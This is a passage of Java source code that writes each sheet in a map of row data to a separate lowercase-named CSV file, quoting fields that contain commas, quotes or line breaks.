        Files.createDirectories(dir);
        for (Map.Entry<String, List<List<Object>>> sheet : sheets.entrySet()) {
            StringBuilder text = new StringBuilder(start);
            for (List<Object> row : sheet.getValue()) {
                List<String> fields = new ArrayList<>();
                for (Object value : row) {
                    String field = value == null ? "" : value instanceof Number n ? String.valueOf(n.longValue()) : value.toString();
                    boolean quote = field.contains(",") || field.contains("\"") || field.contains("\r") || field.contains("\n");
                    fields.add(quote ? "\"" + field.replace("\"", "\"\"") + "\"" : field);
                }
                text.append(String.join(",", fields)).append(lineEnd);
            }
            Files.write(dir.resolve(sheet.getKey().toLowerCase(java.util.Locale.ROOT) + ".csv"), text.toString().getBytes(charset));
        }
    }
}
